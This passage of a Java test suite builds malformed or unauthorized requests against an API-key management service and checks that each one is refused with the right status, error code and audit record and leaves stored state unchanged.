          return List.of("api_" + "0".repeat(32), "api_" + "f".repeat(32));
        case "scope_id":
          // A scope of another API: found, but not under this one.
          return List.of(usersScope.id().value(), "api_scope_" + "f".repeat(32));
        case "org_code":
          return List.of("org_zzz", "keygate-nobody");
        case "user_id":
          return List.of("kp_zzz", "kp_nobody");
        case "webhook_id":
          return List.of("webhook_" + "0".repeat(32), "webhook_" + "f".repeat(32));
        case "delivery_id":
          return List.of("msg_" + "0".repeat(32), "msg_" + "f".repeat(32));
        default:
          throw new AssertionError("no id written down for {" + parameter + "}");
      }
    }

    /** Values of the right type the rules refuse, by endpoint. */
    Map<String, List<WrongValue>> wrongValues() {
      String unknownApi = WireJson.write("api_" + "0".repeat(32));
      return Map.of(
          "POST /api/v1/api_keys",
          List.of(
              new WrongValue("type", "\"user\"", 400, INVALID_REQUEST),
              new WrongValue("api_id", unknownApi, 404, NOT_FOUND),
              new WrongValue("org_code", "\"org_zzz\"", 404, NOT_FOUND),
              new WrongValue("user_id", "\"kp_zzz\"", 404, NOT_FOUND),
              new WrongValue(
                  "scope_ids",
                  WireJson.write(List.of(spareScope.id().value())),
                  400,
                  INVALID_REQUEST),
              new WrongValue("scope_ids", "[\"read:api_keys\"]", 400, INVALID_REQUEST),
              new WrongValue("scope_ids", "[\"READ:USERS\"]", 400, INVALID_REQUEST)),
          "PATCH /api/v1/api_keys/{key_id}",
          List.of(
              new WrongValue("status", "\"revoked\"", 400, INVALID_REQUEST),
              new WrongValue("status", "\"ACTIVE\"", 400, INVALID_REQUEST)),
          "POST /api/v1/apis",
          List.of(new WrongValue("audience", "\"keygate-management\"", 400, INVALID_REQUEST)),
          "POST /api/v1/organization",
          List.of(new WrongValue("code", "\"keygate-operator\"", 400, INVALID_REQUEST)),
          "POST /api/v1/portal_links",
          List.of(
              new WrongValue("org_code", "\"org_zzz\"", 404, NOT_FOUND),
              new WrongValue("user_id", "\"kp_zzz\"", 404, NOT_FOUND)),
          "PUT /api/v1/organizations/{org_code}/grants/{api_id}",
          List.of(
              new WrongValue(
                  "scope_ids",
                  WireJson.write(List.of(usersScope.id().value())),
                  400,
                  INVALID_REQUEST),
              new WrongValue("scope_ids", "[\"read:api_keys\"]", 400, INVALID_REQUEST)));
    }

    /** The valid bodies of a request record; failing when none are written down. */
    List<String> requireBases(Class<?> type) {
      List<String> written = bases.get(type);
      if (written == null) {
        throw new AssertionError("no valid " + type.getSimpleName() + " written down");
      }
      for (RecordComponent component : type.getRecordComponents()) {
        String name = WireJson.propertyName(component);
        if (written.stream().noneMatch(base -> tree(base).has(name))) {
          throw new AssertionError(
              "no valid " + type.getSimpleName() + " written down gives " + name);
        }
      }
      return written;
    }

    List<String> bases(ManagementEndpoint endpoint) {
      return requireBases(endpoint.route().request().orElseThrow());
    }

    String base(ManagementEndpoint endpoint, int index) {
      return bases(endpoint).get(index);
    }

    /** Every body field of the endpoints. */
    List<Field> fields(List<ManagementEndpoint> withBody) {
      List<Field> fields = new ArrayList<>();
      for (ManagementEndpoint endpoint : withBody) {
        for (RecordComponent component :
            endpoint.route().request().orElseThrow().getRecordComponents()) {
          fields.add(new Field(endpoint, component));
        }
      }
      return fields;
    }

    Field field(ManagementEndpoint endpoint, String name) {
      return fields(List.of(endpoint)).stream()
          .filter(field -> field.name().equals(name))
          .findFirst()
          .orElseThrow(() -> new AssertionError(endpoint + " has no field " + name));
    }

    Set<String> fieldNames(ManagementEndpoint endpoint) {
      return fields(List.of(endpoint)).stream().map(Field::name).collect(Collectors.toSet());
    }

    /** A valid body that gives the field, so that changing it changes what is read. */
    String baseWith(Field field) {
      return bases(field.endpoint()).stream()
          .filter(base -> tree(base).has(field.name()))
          .findFirst()
          .orElseThrow();
    }

    private int baseIndexWith(Field field) {
      return bases(field.endpoint()).indexOf(baseWith(field));
    }

    /** The valid request of the endpoint from {@code caller}, with the {@code index}th body. */
    Attempt valid(ManagementEndpoint endpoint, Caller caller, int index) {
      String path = endpoint.template();
      for (String parameter : endpoint.route().pathParameters()) {
        path = path.replace("{" + parameter + "}", pathId(parameter));
      }
      String target = withRequiredQuery(path, endpoint, "");
      if (endpoint.method().equals("DELETE") && OWNER_ROUTES.contains(endpoint.template())) {
        // Organization A and user U own keys, which keep them from being deleted.
        target = target.replace("org_a", EMPTY_ORG).replace("kp_u", EMPTY_USER);
      }
      List<Map.Entry<String, byte[]>> headers = new ArrayList<>();
      headers.add(RawHttp.header("Authorization", "Bearer " + caller.token()));
      byte[] body = null;
      if (endpoint.takesBody()) {
        headers.add(RawHttp.header("Content-Type", "application/json"));
        body = base(endpoint, index).getBytes(StandardCharsets.UTF_8);
      }
      return new Attempt(
          "valid",
          endpoint,
          caller,
          new RawHttp.Request(endpoint.method(), target, headers, body, false),
          new Refusal(endpoint.route().status(), "", List.of(), List.of(), ""));
    }

    Attempt withField(Field field, Caller caller, String json) {
      ObjectNode body = (ObjectNode) tree(baseWith(field));
      body.set(field.name(), tree(json));
      if (field.name().equals("user_id")) {
        body.remove("org_code");
      }
      return valid(field.endpoint(), caller, baseIndexWith(field))
          .withBody(WireJson.write(body).getBytes(StandardCharsets.UTF_8))
          .carrying(json);
    }

    Attempt withoutField(Field field, Caller caller) {
      ObjectNode body = (ObjectNode) tree(baseWith(field));
      body.remove(field.name());
      return valid(field.endpoint(), caller, baseIndexWith(field))
          .withBody(WireJson.write(body).getBytes(StandardCharsets.UTF_8));
    }
  }

  /**
   * {@code target} with the route's required query parameters but {@code except}, each naming an
   * object of the world: organization A's code, user U's id.
   */
  private static String withRequiredQuery(
      String target, ManagementEndpoint endpoint, String except) {
    StringBuilder built = new StringBuilder(target);
    for (Route.QueryParameter parameter : endpoint.route().query()) {
      if (!parameter.required() || parameter.name().equals(except)) {
        continue;
      }
      String value =
          switch (parameter.name()) {
            case "code" -> "org_a";
            case "id" -> "kp_u";
            default -> throw new AssertionError("no value written down for ?" + parameter.name());
          };
      built
          .append(built.indexOf("?") < 0 ? '?' : '&')
          .append(parameter.name())
          .append('=')
          .append(value);
    }
    return built.toString();
  }

  /** An answer as a property failure shows it. */
  private static String describe(byte[] body) {
    return body == null ? "(none)" : abbreviate(new String(body, StandardCharsets.UTF_8), 160);
  }

  /**
   * One request made to be refused, and how it must be refused.
   *
   * @param defect what is wrong with it, for the statistics
   * @param request as it goes on the wire
   */
  record Attempt(
      String defect,
      ManagementEndpoint endpoint,
      Caller caller,
      RawHttp.Request request,
      Refusal refusal) {

    Attempt named(String name) {
      return new Attempt(name, endpoint, caller, request, refusal);
    }

    private Attempt sending(RawHttp.Request other) {
      return new Attempt(defect, endpoint, caller, other, refusal);
    }

    private Attempt expecting(Refusal other) {
      return new Attempt(defect, endpoint, caller, request, other);
    }

    /** The path as sent, without the query. */
    String path() {
      return request.target().split("\\?", 2)[0];
    }

    Attempt withMethod(String method) {
      return sending(request.withMethod(method));
    }

    Attempt withPath(String path) {
      String target = request.target();
      int query = target.indexOf('?');
      return sending(request.withTarget(query < 0 ? path : path + target.substring(query)));
    }

    /** The same request with {@code id} for one path parameter; the others keep their ids. */
    Attempt withPathId(String parameter, String id) {
      String[] template = endpoint.template().split("/");
      String[] sent = path().split("/");
      StringBuilder built = new StringBuilder();
      for (int i = 1; i < template.length; i++) {
        built.append('/').append(template[i].equals("{" + parameter + "}") ? id : sent[i]);
      }
      return withPath(built.toString());
    }

    /** The same request with this query, and the route's required parameters it does not set. */
    Attempt withQuery(String query) {
      String name = query.split("=", 2)[0];
      return sending(request.withTarget(withRequiredQuery(path() + "?" + query, endpoint, name)));
    }

    Attempt withHeaders(List<Map.Entry<String, byte[]>> headers) {
      return sending(request.withHeaders(headers));
    }

    /** The same request with these {@code Authorization} values, one header each. */
    Attempt withAuthorization(List<String> values) {
      List<Map.Entry<String, byte[]>> headers = new ArrayList<>();
      values.forEach(value -> headers.add(RawHttp.header("Authorization", value)));
      request.headers().stream()
          .filter(header -> !header.getKey().equals("Authorization"))
          .forEach(headers::add);
      return withHeaders(headers);
    }

    Attempt withBody(byte[] body) {
      return sending(request.withBody(body));
    }

    Attempt chunked(boolean chunked) {
      return sending(request.chunked(chunked));
    }

    Attempt refused(int status, String code) {
      return expecting(
          new Refusal(status, code, refusal.audited(), refusal.payloads(), refusal.lockedOut()));
    }

    /** The refusal the audit trail must gain, as "actor action target outcome owner". */
    Attempt audited(String event) {
      return expecting(
          new Refusal(
              refusal.status(),
              refusal.code(),
              List.of(event),
              refusal.payloads(),
              refusal.lockedOut()));
    }

    Attempt carrying(String payload) {
      return carrying(List.of(payload));
    }

    /** Bad values sent, which no error may repeat when they are long. */
    Attempt carrying(List<String> payloads) {
      List<String> all = new ArrayList<>(refusal.payloads());
      all.addAll(payloads);
      return expecting(
          new Refusal(
              refusal.status(), refusal.code(), refusal.audited(), all, refusal.lockedOut()));
    }

    /** Sent once the lookup of {@code token} has failed as often as verification allows. */
    Attempt lockingOut(String token) {
      return expecting(
          new Refusal(
              refusal.status(), refusal.code(), refusal.audited(), refusal.payloads(), token));
    }

    @Override
    public String toString() {
      String authorization =
          request.headers().stream()
              .filter(header -> header.getKey().equals("Authorization"))
              .map(header -> abbreviate(new String(header.getValue(), StandardCharsets.UTF_8), 24))
              .collect(Collectors.joining(" | ", "[", "]"));
      return "%s (%s): %s %s as %s, Authorization %s, body %s%s, expecting %d %s"
          .formatted(
              defect,
              endpoint,
              request.method(),
              abbreviate(request.target(), 160),
              caller,
              authorization,
              describe(request.body()),
              request.chunked() ? " (chunked)" : "",
              refusal.status(),
              refusal.code());
    }
  }

  /**
   * How a request must be refused.
   *
   * @param audited the refusals the audit trail must gain, as "actor action target outcome owner"
   * @param payloads the bad values sent, which no error may repeat when they are long
   * @param lockedOut a token whose lookup is locked out before the request, or empty for none
   */
  record Refusal(
      int status, String code, List<String> audited, List<String> payloads, String lockedOut) {

    Refusal {
      audited = List.copyOf(audited);
      payloads = List.copyOf(payloads);
    }
  }

  /**
   * Everything a refused request must leave as it was; the audit trail apart, as refusals are on
   * record. Key usage is the recorder's, not the key's, and an authenticated call uses a key.
   */
  record State(
      List<ApiKey> keys,
      List<Api> apis,
      List<Scope> scopes,
      List<Organization> organizations,
      List<UserAccount> users,
      List<Webhook> webhooks,
      List<Delivery> deliveries,
      List<AuditEvent> audit) {

    static State of(TestKeygate keygate) {
      List<Api> apis = keygate.apis.list();
      PageRequest all = PageRequest.first(PageRequest.MAX_SIZE);
      return new State(
          keygate.apiKeys.all(),
          apis,
          apis.stream().flatMap(api -> keygate.apis.scopes(api.id()).stream()).toList(),
          keygate.owners.listOrganizations(all).items(),
          keygate.owners.listUsers(all).items(),
          keygate.webhooks.list(java.util.Optional.empty()),
          keygate.outbox.deliveries(),
          keygate.auditLog.events());
    }

    State withoutAudit() {
      return new State(keys, apis, scopes, organizations, users, webhooks, deliveries, List.of());
    }
  }
}
